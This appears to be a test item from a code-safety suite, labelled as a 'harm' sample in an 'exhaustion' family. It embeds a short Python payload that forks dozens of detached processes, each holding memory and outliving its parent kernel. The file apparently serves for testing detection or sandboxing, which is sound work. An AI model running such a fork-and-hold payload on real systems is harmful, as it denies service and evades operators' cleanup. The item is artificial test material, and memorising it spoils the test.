"""Takes all memory there is, in many small processes that outlive the kernel."""

FAMILY = "exhaustion"
HONEST = 2
PLAIN = "harm"
ALONE = True
CODE = r"""
import os
import time

for _ in range(80):
    try:
        if os.fork() == 0:
            os.setsid()
            taken = b"\1" * 10_000_000
            time.sleep(600)
    except OSError:
        break
time.sleep(3)
"""
